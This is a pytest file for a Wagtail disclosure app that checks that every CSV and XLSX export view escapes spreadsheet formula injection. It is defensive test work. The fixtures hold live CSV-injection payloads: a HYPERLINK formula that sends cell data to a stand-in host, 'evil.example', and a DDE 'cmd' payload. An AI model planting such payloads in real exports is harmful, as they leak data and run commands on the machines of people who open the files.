"""No export of the app hands a spreadsheet program a live formula.

The test finds every export view itself (every URL of the app whose view is a Wagtail
``SpreadsheetExportMixin``), puts hostile text into every record that feeds one, downloads each as
CSV and as XLSX, and checks that no text cell begins with ``= + - @``, tab or carriage return —
and that the hostile text did reach the export, so that a view is never passed for being empty.
"""

import csv
import io
import re

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.files.base import ContentFile
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.documents import get_document_model
from wagtail.images import get_image_model

from wagtail_disclosure import conf
from wagtail_disclosure.exports import csv_bytes, neutralise, xlsx_bytes
from wagtail_disclosure.models import (
    Agency,
    CalendarEntry,
    CatalogueItem,
    ChannelLog,
    CorruptionComplaint,
    Feedback,
    Question,
    SurveyResponse,
    TrackingForm,
    WorkGroup,
)
from wagtail_disclosure.models.media import save_rights

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"คลิก")'
# What one hostile text looks like in each dangerous variant; every one goes into the data.
VARIANTS = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"]
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")

# Reports of counts only: their text cells are our own labels (months, topics), never typed text.
# The agency view lists offices by their names and percentages (its cells are checked live too).
FIGURES_ONLY = {"service_statistics", "satisfaction", "complaint_statistics", "agency"}


def _export_urls():
    """(name, path) of every export view of the app, found in the URL configuration."""
    found = []

    def walk(patterns, prefix, namespace):
        for p in patterns:
            if isinstance(p, URLResolver):
                ns = p.namespace or namespace
                walk(p.url_patterns, prefix + str(p.pattern), ns)
            elif isinstance(p, URLPattern):
                view_class = getattr(p.callback, "view_class", None)
                route = prefix + str(p.pattern)
                if (
                    view_class
                    and issubclass(view_class, SpreadsheetExportMixin)
                    and (namespace or "").startswith("wagtail_disclosure")
                    and (p.callback.view_initkwargs or {}).get(
                        "list_export", view_class.list_export
                    )
                    and not (p.callback.view_initkwargs or {}).get("results_only")
                    and "<" not in route
                    and not (p.name or "").endswith("_results")
                ):
                    found.append((p.name, "/" + route.lstrip("^").replace("\\Z", "")))

    walk(get_resolver().url_patterns, "", None)
    return found


@pytest.fixture
def hostile_office(demo):
    site = demo["site"]
    now = timezone.now()
    group = WorkGroup.objects.filter(site=site).first() or WorkGroup.objects.first()
    WorkGroup.objects.filter(pk=group.pk).update(name_th=HOSTILE)
    item = CatalogueItem.objects.get(code="O1", edition__slug="ita-2566")
    CatalogueItem.objects.filter(pk=item.pk).update(name_th=HOSTILE, name_en=HOSTILE)
    for n, text in enumerate(VARIANTS):
        Question.objects.create(
            site=site, tracking_hash=f"q{n}".ljust(64, "0"), subject=text, body=text
        )
        CorruptionComplaint.objects.create(
            site=site,
            tracking_hash=f"c{n}".ljust(64, "0"),
            complaint_type="other",
            subject=text,
            details=text,
        )
        Feedback.objects.create(site=site, topic="other", message=text)
        SurveyResponse.objects.create(
            site=site,
            service=text,
            overall=5,
            staff=5,
            process=5,
            timeliness=5,
            information=5,
            comment=text,
        )
        ChannelLog.objects.create(site=site, channel="line", date=now.date(), title=text)
        CalendarEntry.objects.create(site=site, title=text, months="10", responsible=text)
    TrackingForm.objects.update_or_create(
        site=site, work_group=group, round=1, defaults={"results": HOSTILE}
    )
    image = get_image_model().objects.first()
    get_image_model().objects.filter(pk=image.pk).update(title=HOSTILE)
    save_rights(image, {"source": ""})  # listed by the report of media lacking rights
    get_document_model().objects.create(
        title=HOSTILE, file=ContentFile(b"%PDF-1.4 hostile", name="hostile.pdf")
    )
    user = get_user_model().objects.create_superuser("exporter", "exporter@example.go.th", "x")
    user.groups.add(Group.objects.get_or_create(name=conf.get("INTEGRITY_GROUP"))[0])
    # The agency view's exports are its members' only.
    agency = Agency.objects.create(name=HOSTILE, level=Agency.Level.choices[0][0])
    agency.offices.add(site)
    agency.members.add(user)
    return user


def _csv_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
            cells.append(cell.value)
    return cells


def _live(cells):
    return [c for c in cells if isinstance(c, str) and c[:1] in DANGEROUS and not NUMBER.match(c)]


def test_the_walk_finds_every_kind_of_export():
    paths = {path for _name, path in _export_urls()}
    # The public channels, the reports and the viewsets each have at least one export.
    for path in (
        "/admin/disclosure/submissions/questions/",
        "/admin/disclosure/submissions/complaints/",
        "/admin/disclosure/submissions/feedback/",
        "/admin/disclosure/submissions/survey/",
        "/admin/disclosure/reports/oit-readiness/",
        "/admin/disclosure/reports/service-statistics/",
        "/admin/disclosure/channel-log/",
    ):
        assert path in paths, path
    assert {name for name, _path in _export_urls()} >= FIGURES_ONLY


def test_every_export_view_neutralises_formulas_in_csv_and_xlsx(client, hostile_office):
    client.force_login(hostile_office)
    urls = _export_urls()
    assert len(urls) >= 15, urls
    failures = []
    for name, path in urls:
        for fmt, read in (("csv", _csv_cells), ("xlsx", _xlsx_cells)):
            response = client.get(path, {"export": fmt})
            assert response.status_code == 200, (name, path, fmt, response.status_code)
            cells = read(response)
            if _live(cells):
                failures.append((path, fmt, _live(cells)[:3]))
            if name not in FIGURES_ONLY and not any(
                isinstance(c, str) and "HYPERLINK" in c for c in cells
            ):
                failures.append((path, fmt, "the hostile text never reached the export"))
    assert failures == [], "\n".join(f"{p} {f} {str(x)[:70]}" for p, f, x in failures)


def test_one_rule_for_both_writers():
    for text in VARIANTS:
        assert neutralise(text) == "'" + text
    assert neutralise(-5) == -5 and neutralise("ปกติ") == "ปกติ" and neutralise("") == ""
    rows = [[text, -3] for text in VARIANTS]
    csv_cells = list(csv.reader(io.StringIO(csv_bytes(["a", "b"], rows).decode("utf-8-sig"))))
    assert [r[0] for r in csv_cells[1:]] == ["'" + t for t in VARIANTS]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a", "b"], rows))).active
    assert [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)] == [
        "'" + t for t in VARIANTS
    ]
    assert [r[1] for r in sheet.iter_rows(min_row=2, values_only=True)] == [-3] * len(VARIANTS)
